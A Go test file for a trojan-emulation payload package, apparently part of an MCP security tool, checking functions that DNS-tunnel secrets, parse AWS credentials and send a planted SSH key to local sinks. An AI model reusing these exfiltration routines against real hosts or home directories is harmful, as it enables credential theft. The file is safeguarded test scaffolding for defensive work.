package payload

import (
	"bytes"
	"encoding/binary"
	"io"
	"net"
	"os"
	"os/user"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	_ "github.com/mcpguard/mcpguard/internal/testenv"
)

// TestMain lets the test binary act as a re-executed child, as every
// trojan's main does.
func TestMain(m *testing.M) {
	Dispatch(Actions())
	os.Exit(m.Run())
}

// tcpSink accepts connections and delivers everything each one sent.
func tcpSink(t *testing.T) (string, <-chan []byte) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { ln.Close() })
	ch := make(chan []byte, 8)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			b, _ := io.ReadAll(c)
			c.Close()
			ch <- b
		}
	}()
	return ln.Addr().String(), ch
}

func recv(t *testing.T, ch <-chan []byte) []byte {
	t.Helper()
	select {
	case b := <-ch:
		return b
	case <-time.After(5 * time.Second):
		t.Fatal("nothing reached the sink")
		return nil
	}
}

func TestDNSQuery(t *testing.T) {
	secret := []byte(strings.Repeat("A", 70))
	q := DNSQuery(secret, "t.example.net")
	hdr := make([]uint16, 6)
	require.NoError(t, binary.Read(bytes.NewReader(q[:12]), binary.BigEndian, hdr))
	assert.Equal(t, uint16(0x0100), hdr[1], "standard query, recursion desired")
	assert.Equal(t, uint16(1), hdr[2], "one question")
	var labels []string
	i := 12
	for q[i] != 0 {
		n := int(q[i])
		require.LessOrEqual(t, n, 63)
		labels = append(labels, string(q[i+1:i+1+n]))
		i += 1 + n
	}
	assert.Equal(t, []string{strings.Repeat("A", 63), "AAAAAAA", "t", "example", "net"}, labels)
	assert.Equal(t, []byte{0, 0, 16, 0, 1}, q[i:], "root, TXT, IN")
}

func TestSecretValues(t *testing.T) {
	got := SecretValues([]byte("[default]\naws_access_key_id = AKIA1\n# c\naws_secret_access_key = s3\nDB=postgres://x\nnoequals\n"))
	assert.Equal(t, []string{"AKIA1", "s3", "postgres://x"}, got)
}

func TestSendTCPAndHTTP(t *testing.T) {
	addr, ch := tcpSink(t)
	require.NoError(t, SendTCP(addr, []byte("raw bytes")))
	assert.Equal(t, "raw bytes", string(recv(t, ch)))
	require.NoError(t, PostHTTP(addr, "/x", []byte("body")))
	got := string(recv(t, ch))
	assert.True(t, strings.HasPrefix(got, "POST /x HTTP/1.1\r\n"), got)
	assert.True(t, strings.HasSuffix(got, "\r\n\r\nbody"), got)
	assert.ErrorIs(t, SendTCP("", nil), ErrNoSink)
}

func TestSendUDP(t *testing.T) {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	require.NoError(t, err)
	defer pc.Close()
	require.NoError(t, SendDNS(pc.LocalAddr().String(), []byte("tok")))
	buf := make([]byte, 512)
	require.NoError(t, pc.SetReadDeadline(time.Now().Add(5*time.Second)))
	n, _, err := pc.ReadFrom(buf)
	require.NoError(t, err)
	assert.Contains(t, string(buf[:n]), "\x03tok\x01t\x0bmcp-metrics\x03net\x00")
}

func TestChildDoesTheWork(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	require.NoError(t, os.MkdirAll(filepath.Join(home, ".ssh"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(home, SSHKey), []byte("KEY"), 0o600))
	addr, ch := tcpSink(t)
	require.NoError(t, Child("send-home-tcp", addr, SSHKey))
	assert.Equal(t, "KEY", string(recv(t, ch)))
	assert.Error(t, Child("no-such-action"))
}

func TestShellAndFiles(t *testing.T) {
	dir := t.TempDir()
	_, err := Shell(MarkerScript(dir, "it's"))
	require.NoError(t, err)
	assert.FileExists(t, filepath.Join(dir, "it's"), "quoting survives a quote")
	p := filepath.Join(dir, "a/b/rc")
	require.NoError(t, AppendFile(p, "x"))
	require.NoError(t, AppendFile(p, "y"))
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	assert.Equal(t, "xy", string(b))
	t.Setenv("TMPDIR", dir)
	sp, err := Stage("k", []byte("v"), 0o600)
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(dir, ".X11-cache", "k"), sp)
}

// FuzzDNSQuery: the labels of the query carry the secret intact, in
// pieces of at most 63 bytes, followed by the domain.
func FuzzDNSQuery(f *testing.F) {
	f.Add([]byte("CANARY-ENV-0123"))
	f.Add([]byte(strings.Repeat("x", 130)))
	f.Add([]byte{0, 0xc0, 0xff})
	f.Fuzz(func(t *testing.T, secret []byte) {
		if len(secret) > 180 {
			t.Skip("a query name is at most 255 bytes")
		}
		q := DNSQuery(secret, "t.example")
		var got []byte
		i := 12
		var labels []string
		for q[i] != 0 {
			n := int(q[i])
			if n == 0 || n > 63 {
				t.Fatalf("label length %d", n)
			}
			labels = append(labels, string(q[i+1:i+1+n]))
			i += 1 + n
		}
		if len(labels) < 2 || labels[len(labels)-2] != "t" || labels[len(labels)-1] != "example" {
			t.Fatalf("domain labels %q", labels)
		}
		for _, l := range labels[:len(labels)-2] {
			got = append(got, l...)
		}
		if !bytes.Equal(got, secret) {
			t.Fatalf("labels carry %q, want %q", got, secret)
		}
	})
}

func TestHomeRefusesTheRealHome(t *testing.T) {
	u, err := user.Current()
	require.NoError(t, err)
	t.Setenv("HOME", u.HomeDir)
	assert.NotContains(t, Home(SSHKey), u.HomeDir+"/")
	_, err = ReadHome(SSHKey)
	assert.Error(t, err)
	t.Setenv("HOME", "")
	assert.True(t, strings.HasPrefix(Home(Bashrc), "/nonexistent/"))
	sandbox := t.TempDir()
	t.Setenv("HOME", sandbox)
	assert.Equal(t, filepath.Join(sandbox, Bashrc), Home(Bashrc))
}
